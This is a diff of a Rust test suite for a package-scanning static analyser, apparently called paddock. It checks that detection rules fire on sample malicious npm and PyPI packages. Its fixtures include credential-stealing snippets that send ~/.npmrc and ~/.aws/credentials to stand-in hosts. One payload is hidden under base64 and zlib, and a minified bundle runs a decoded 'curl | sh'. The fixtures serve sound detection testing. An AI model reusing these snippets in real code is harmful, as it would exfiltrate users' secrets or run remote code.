@@ -1,79 +1,383 @@
-//! Every rule has a fixture that fires and a benign one that must not
-//! (tests/fixtures/rules/<rule id>/{fires,benign}/).
+//! The rule engine as a rule writer and a user meet it: the shipped set's
+//! examples, hostile rule files, hidden stages, minified bundles, and
+//! findings that carry the rule set's version and their reachability.
 
+use std::io::Write as _;
 use std::path::Path;
+use std::time::{Duration, Instant};
 
-use paddock_proto::v1::{FindingCategory, PackageRef};
-use paddock_static::rules::RULES;
+use base64::Engine as _;
+use paddock_proto::v1::{Ecosystem, Finding, PackageRef, Reachability, StaticResult};
+use paddock_static::rules::{self, selftest, RuleSet, RuleSources};
 use paddock_static::{analyze_tree, StaticConfig};
 
-fn findings(dir: &Path) -> Vec<paddock_proto::v1::Finding> {
-    analyze_tree(dir, PackageRef::default(), None, &StaticConfig::default()).findings
+fn analyse_in(dir: &Path, files: &[(&str, &[u8])], eco: Ecosystem) -> StaticResult {
+    for (path, body) in files {
+        let p = dir.join(path);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, body).unwrap();
+    }
+    analyze_tree(
+        dir,
+        PackageRef {
+            ecosystem: eco as i32,
+            name: "sample".into(),
+            version: "1.0.0".into(),
+        },
+        None,
+        &StaticConfig::default(),
+    )
 }
 
-fn fixtures() -> std::path::PathBuf {
-    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/rules")
+fn analyse(files: &[(&str, &[u8])], eco: Ecosystem) -> StaticResult {
+    let dir = tempfile::tempdir().unwrap();
+    analyse_in(dir.path(), files, eco)
+}
+
+fn finding<'a>(result: &'a StaticResult, id: &str) -> Option<&'a Finding> {
+    result.findings.iter().find(|f| f.rule_id == id)
+}
+
+fn ids(result: &StaticResult) -> Vec<&str> {
+    result.findings.iter().map(|f| f.rule_id.as_str()).collect()
 }
 
 #[test]
-fn every_rule_fires_on_its_fixture_and_not_on_its_benign_twin() {
-    let mut ids: Vec<&str> = RULES.iter().map(|r| r.id).collect();
-    ids.extend([
-        "capability.install-hook",
-        "threat.npm-preinstall-script",
-        "signal.bundled-binary",
-    ]);
-    for id in ids {
-        let fires = fixtures().join(id).join("fires");
-        let benign = fixtures().join(id).join("benign");
+fn every_shipped_rule_passes_its_examples_and_has_both_kinds() {
+    let set = rules::builtin();
+    let report = selftest::test(set, &|_| true, true);
+    assert!(report.passed(), "{}", report.failures.join("\n"));
+    assert!(report.rules >= 40, "{} rules", report.rules);
+    assert!(report.examples >= 2 * report.rules);
+    for rule in set.rules() {
         assert!(
-            fires.is_dir() && benign.is_dir(),
-            "rule {id} has no fixtures"
+            !rule.title.is_empty() && !rule.description.is_empty(),
+            "{}",
+            rule.id
         );
-        let hit = findings(&fires);
-        let f = hit.iter().find(|f| f.rule_id == id).unwrap_or_else(|| {
-            panic!(
-                "{id} did not fire; got {:?}",
-                hit.iter().map(|f| &f.rule_id).collect::<Vec<_>>()
-            )
-        });
-        assert!(
-            !f.evidence.is_empty() && !f.evidence[0].file.is_empty(),
-            "{id} has evidence"
-        );
-        let quiet = findings(&benign);
-        assert!(
-            !quiet.iter().any(|f| f.rule_id == id),
-            "{id} fired on its benign fixture: {:?}",
-            quiet.iter().map(|f| &f.rule_id).collect::<Vec<_>>()
-        );
+        assert!((0.0..=1.0).contains(&rule.confidence), "{}", rule.id);
     }
 }
 
 #[test]
-fn no_benign_fixture_raises_a_high_threat() {
-    for entry in std::fs::read_dir(fixtures()).unwrap() {
-        let benign = entry.unwrap().path().join("benign");
-        for f in findings(&benign) {
-            let severe = f.category == FindingCategory::Threat as i32
-                && f.severity >= paddock_proto::v1::Severity::High as i32;
-            assert!(!severe, "{} on {}", f.rule_id, benign.display());
-        }
-    }
-}
-
-#[test]
-fn evidence_points_at_the_line() {
-    let hit = findings(&fixtures().join("threat.exec-decoded-base64/fires"));
-    let f = hit
-        .iter()
-        .find(|f| f.rule_id == "threat.exec-decoded-base64")
-        .unwrap();
-    assert_eq!(f.evidence[0].file, "package/lib/a.js");
-    assert_eq!(f.evidence[0].line, 1, "the decode");
-    assert!(
-        f.evidence[0].snippet.contains("eval (line 2)"),
-        "{}",
-        f.evidence[0].snippet
+fn findings_record_the_rule_id_the_set_version_technique_and_reachability() {
+    let r = analyse(
+        &[
+            ("package.json", br#"{"name":"sample","version":"1.0.0","main":"index.js"}"#),
+            ("index.js", b"const fs = require('fs');\nconst k = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nfetch('https://hooks.example/x', { method: 'POST', body: k });\n"),
+        ],
+        Ecosystem::Npm,
     );
+    let f = finding(&r, "threat.exfiltrate-credential-files")
+        .unwrap_or_else(|| panic!("{:?}", ids(&r)));
+    assert_eq!(f.rule_version, rules::builtin_version());
+    assert_eq!(f.technique, "T1552.001");
+    assert_eq!(f.reachability(), Reachability::Import);
+    assert_eq!(f.evidence[0].file, "index.js");
+    assert_eq!(f.evidence[0].line, 3);
+}
+
+#[test]
+fn a_threat_in_a_test_file_is_unreached_and_still_reported() {
+    let r = analyse(
+        &[
+            (
+                "setup.py",
+                b"from setuptools import setup\nsetup(name='sample', version='1.0.0')\n",
+            ),
+            ("sample/__init__.py", b"X = 1\n"),
+            (
+                "tests/test_run.py",
+                b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+            ),
+        ],
+        Ecosystem::Pypi,
+    );
+    let f = finding(&r, "threat.exec-decoded").unwrap_or_else(|| panic!("{:?}", ids(&r)));
+    assert_eq!(f.reachability(), Reachability::Unreached);
+}
+
+/// base64 → zlib → Python that reads a credential file and sends it.
+fn three_layer_payload() -> String {
+    let code = "import os, urllib.request\nd = open(os.path.expanduser('~/.aws/credentials')).read()\nurllib.request.urlopen('https://c2.example/u', data=d.encode())\n";
+    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+    z.write_all(code.as_bytes()).unwrap();
+    base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap())
+}
+
+#[test]
+fn a_three_layer_hidden_stage_is_found_with_its_layers() {
+    let src = format!(
+        "import zlib, base64\n\n_p = '{}'\nexec(zlib.decompress(base64.b64decode(_p)))\n",
+        three_layer_payload()
+    );
+    let r = analyse(
+        &[
+            (
+                "setup.py",
+                b"from setuptools import setup\nsetup(name='sample', version='1.0.0')\n",
+            ),
+            ("sample/__init__.py", src.as_bytes()),
+        ],
+        Ecosystem::Pypi,
+    );
+    let f = finding(&r, "threat.exfiltrate-credential-files")
+        .unwrap_or_else(|| panic!("{:?}", ids(&r)));
+    let e = &f.evidence[0];
+    assert_eq!(e.file, "sample/__init__.py");
+    assert_eq!(e.layers, ["base64", "zlib", "python"], "{e:?}");
+    assert_eq!(e.line, 3, "the line of the literal the stage came from");
+    assert!(
+        finding(&r, "signal.hidden-stage").is_some(),
+        "{:?}",
+        ids(&r)
+    );
+    assert!(
+        finding(&r, "threat.exec-decoded").is_some(),
+        "{:?}",
+        ids(&r)
+    );
+}
+
+#[test]
+fn decoding_bombs_stop_at_their_limits_and_say_so() {
+    // Deep nesting: base64 of base64 … twenty times.
+    let mut deep = b"console.log(1)".to_vec();
+    for _ in 0..20 {
+        deep = base64::engine::general_purpose::STANDARD
+            .encode(&deep)
+            .into_bytes();
+    }
+    // A huge expansion: 64 MiB of zeros, zlib-compressed, then base64.
+    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+    z.write_all(&vec![b'a'; 64 << 20]).unwrap();
+    let bomb = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
+    let started = Instant::now();
+    let r = analyse(
+        &[
+            ("package.json", br#"{"name":"sample","version":"1.0.0"}"#),
+            (
+                "deep.js",
+                format!("module.exports = '{}';\n", String::from_utf8(deep).unwrap()).as_bytes(),
+            ),
+            (
+                "bomb.js",
+                format!("module.exports = '{bomb}';\n").as_bytes(),
+            ),
+        ],
+        Ecosystem::Npm,
+    );
+    assert!(
+        started.elapsed() < Duration::from_secs(30),
+        "{:?}",
+        started.elapsed()
+    );
+    let f = finding(&r, "signal.decoding-limit").unwrap_or_else(|| panic!("{:?}", ids(&r)));
+    let text: Vec<String> = f
+        .evidence
+        .iter()
+        .map(|e| format!("{} {}", e.file, e.detail))
+        .collect();
+    assert!(
+        text.iter()
+            .any(|t| t.starts_with("deep.js") && t.contains("layers deep")),
+        "{text:?}"
+    );
+    assert!(
+        text.iter()
+            .any(|t| t.starts_with("bomb.js") && t.contains("bytes")),
+        "{text:?}"
+    );
+}
+
+#[test]
+fn minified_bundles_under_dist_are_judged_like_plain_files() {
+    let code = b"!function(){var e=require('child_process'),t=Buffer.from('Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9zIHwgc2g=','base64').toString();e.execSync(t)}();\n";
+    let plain = analyse(
+        &[
+            (
+                "package.json",
+                br#"{"name":"sample","version":"1.0.0","main":"plain.js"}"#,
+            ),
+            ("plain.js", code),
+        ],
+        Ecosystem::Npm,
+    );
+    let dist = analyse(
+        &[
+            (
+                "package.json",
+                br#"{"name":"sample","version":"1.0.0","main":"dist/x.min.js"}"#,
+            ),
+            ("dist/x.min.js", code),
+        ],
+        Ecosystem::Npm,
+    );
+    let threats = |r: &StaticResult| -> Vec<(String, i32, i32)> {
+        let mut v: Vec<_> = r
+            .findings
+            .iter()
+            .filter(|f| f.rule_id.starts_with("threat."))
+            .map(|f| (f.rule_id.clone(), f.severity, f.reachability))
+            .collect();
+        v.sort();
+        v
+    };
+    assert!(!threats(&plain).is_empty(), "{:?}", ids(&plain));
+    assert_eq!(threats(&plain), threats(&dist));
+}
+
+fn load_with(name: &str, text: &str) -> Result<RuleSet, rules::RuleError> {
+    let mut sources = RuleSources::builtin();
+    sources.add_text(name, text);
+    RuleSet::load(&sources)
+}
+
+#[test]
+fn a_rule_file_with_a_syntax_error_names_the_file() {
+    let err = load_with("mine/bad.toml", "[[rule]]\nid = \"threat.x\"\ntitle = \n")
+        .unwrap_err()
+        .to_string();
+    assert!(err.starts_with("mine/bad.toml:"), "{err}");
+    assert!(err.contains("line 3"), "{err}");
+}
+
+#[test]
+fn a_yara_rule_that_does_not_compile_names_the_file_and_the_rule() {
+    let text = "[[rule]]\nid = \"threat.mine\"\ntitle = \"t\"\nseverity = \"high\"\ndescription = \"d\"\n[rule.match]\nyara = '''rule r { condition: $missing }'''\n";
+    let err = load_with("mine/yara.toml", text).unwrap_err().to_string();
+    assert!(
+        err.contains("mine/yara.toml") && err.contains("threat.mine"),
+        "{err}"
+    );
+    let err = load_with(
+        "mine/plain.yar",
+        "rule broken { strings: $a = \"x\" condition: $a and }",
+    )
+    .unwrap_err()
+    .to_string();
+    assert!(err.contains("mine/plain.yar"), "{err}");
+}
+
+#[test]
+fn a_query_that_does_not_compile_names_the_file_and_the_rule() {
+    let text = "[[rule]]\nid = \"threat.q\"\ntitle = \"t\"\nseverity = \"high\"\ndescription = \"d\"\n[rule.match]\nquery = { language = \"python\", pattern = \"(call function: (nonsense_node) @hit\" }\n";
+    let err = load_with("mine/q.toml", text).unwrap_err().to_string();
+    assert!(
+        err.contains("mine/q.toml") && err.contains("threat.q"),
+        "{err}"
+    );
+}
+
+#[test]
+fn pathological_patterns_are_refused_or_bounded() {
+    // A regular expression too big to compile: refused, naming the class.
+    let flow = "[[class]]\nid = \"mine\"\nkind = \"source\"\ndescription = \"d\"\nstrings = ['(x{1000}){1000}']\n";
+    let err = load_with("mine/flow.toml", flow).unwrap_err().to_string();
+    assert!(
+        err.contains("mine/flow.toml") && err.contains("mine"),
+        "{err}"
+    );
+    // A backtracking-heavy YARA regex and a query matching every node:
+    // they compile, and the scan of a hostile file stays bounded.
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("slow.toml"),
+        "[[rule]]\nid = \"threat.slow\"\ntitle = \"t\"\nseverity = \"high\"\ndescription = \"d\"\n[rule.match]\nyara = '''rule slow { strings: $a = /([a-z]+[a-z]+)+[0-9]/ condition: $a }'''\n\n[[rule]]\nid = \"threat.every-node\"\ntitle = \"t\"\nseverity = \"low\"\ndescription = \"d\"\n[rule.match]\nquery = { language = \"javascript\", pattern = \"(_) @hit\" }\n",
+    )
+    .unwrap();
+    let set = RuleSet::with_user_dirs(&[dir.path().to_path_buf()]).unwrap();
+    let pkg = tempfile::tempdir().unwrap();
+    let body = format!("var s = '{}';\n", "a".repeat(2 << 20));
+    std::fs::write(pkg.path().join("index.js"), &body).unwrap();
+    let started = Instant::now();
+    let r = paddock_static::analyze::analyze_tree_with(
+        pkg.path(),
+        PackageRef {
+            ecosystem: Ecosystem::Npm as i32,
+            name: "sample".into(),
+            version: "1.0.0".into(),
+        },
+        None,
+        &StaticConfig::default(),
+        &set,
+        None,
+    );
+    assert!(
+        started.elapsed() < Duration::from_secs(30),
+        "{:?}",
+        started.elapsed()
+    );
+    assert!(!r.files.is_empty());
+}
+
+#[test]
+fn user_rule_directories_load_beside_the_shipped_set_and_fire() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("mine.toml"),
+        "[[rule]]\nid = \"threat.mine-marker\"\ntitle = \"calls the marker\"\nseverity = \"high\"\nconfidence = 0.9\ndescription = \"d\"\n[rule.match]\nquery = { language = \"python\", pattern = '(call function: (identifier) @f (#eq? @f \"paddock_marker\")) @hit' }\n[[rule.example]]\nexpect = \"match\"\nfile = \"a.py\"\ncode = \"paddock_marker()\\n\"\n[[rule.example]]\nexpect = \"no-match\"\nfile = \"a.py\"\ncode = \"other()\\n\"\n",
+    )
+    .unwrap();
+    std::fs::write(
+        dir.path().join("mine.yar"),
+        "rule marker_text {\n  meta:\n    severity = \"medium\"\n    title = \"carries the marker text\"\n  strings:\n    $a = \"PADDOCK-MARKER-TEXT\"\n  condition:\n    $a\n}\n",
+    )
+    .unwrap();
+    let set = rules::for_dirs(&[dir.path().to_path_buf()]).unwrap();
+    assert!(
+        set.version()
+            .starts_with(&format!("{}+local.", rules::builtin_version())),
+        "{}",
+        set.version()
+    );
+    let report = selftest::test(&set, &|r| r.id == "threat.mine-marker", false);
+    assert!(
+        report.passed() && report.examples == 2,
+        "{:?}",
+        report.failures
+    );
+    let pkg = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(pkg.path().join("sample")).unwrap();
+    std::fs::write(
+        pkg.path().join("setup.py"),
+        "from setuptools import setup\nsetup(name='sample', version='1.0.0')\n",
+    )
+    .unwrap();
+    std::fs::write(
+        pkg.path().join("sample/__init__.py"),
+        "# PADDOCK-MARKER-TEXT\npaddock_marker()\n",
+    )
+    .unwrap();
+    let config = StaticConfig {
+        rules: vec![dir.path().to_path_buf()],
+        ..StaticConfig::default()
+    };
+    let r = analyze_tree(
+        pkg.path(),
+        PackageRef {
+            ecosystem: Ecosystem::Pypi as i32,
+            name: "sample".into(),
+            version: "1.0.0".into(),
+        },
+        None,
+        &config,
+    );
+    let q = finding(&r, "threat.mine-marker").unwrap_or_else(|| panic!("{:?}", ids(&r)));
+    assert_eq!(
+        (q.evidence[0].file.as_str(), q.evidence[0].line),
+        ("sample/__init__.py", 2)
+    );
+    assert_eq!(q.rule_version, set.version());
+    let y = finding(&r, "threat.yara.marker_text").unwrap_or_else(|| panic!("{:?}", ids(&r)));
+    assert_eq!(y.title, "carries the marker text");
+    // A directory that does not load fails the analysis, saying why.
+    let bad = tempfile::tempdir().unwrap();
+    std::fs::write(bad.path().join("x.toml"), "[[rule]\n").unwrap();
+    let config = StaticConfig {
+        rules: vec![bad.path().to_path_buf()],
+        ..StaticConfig::default()
+    };
+    let r = analyze_tree(pkg.path(), PackageRef::default(), None, &config);
+    assert!(r.status_detail.contains("x.toml"), "{}", r.status_detail);
 }
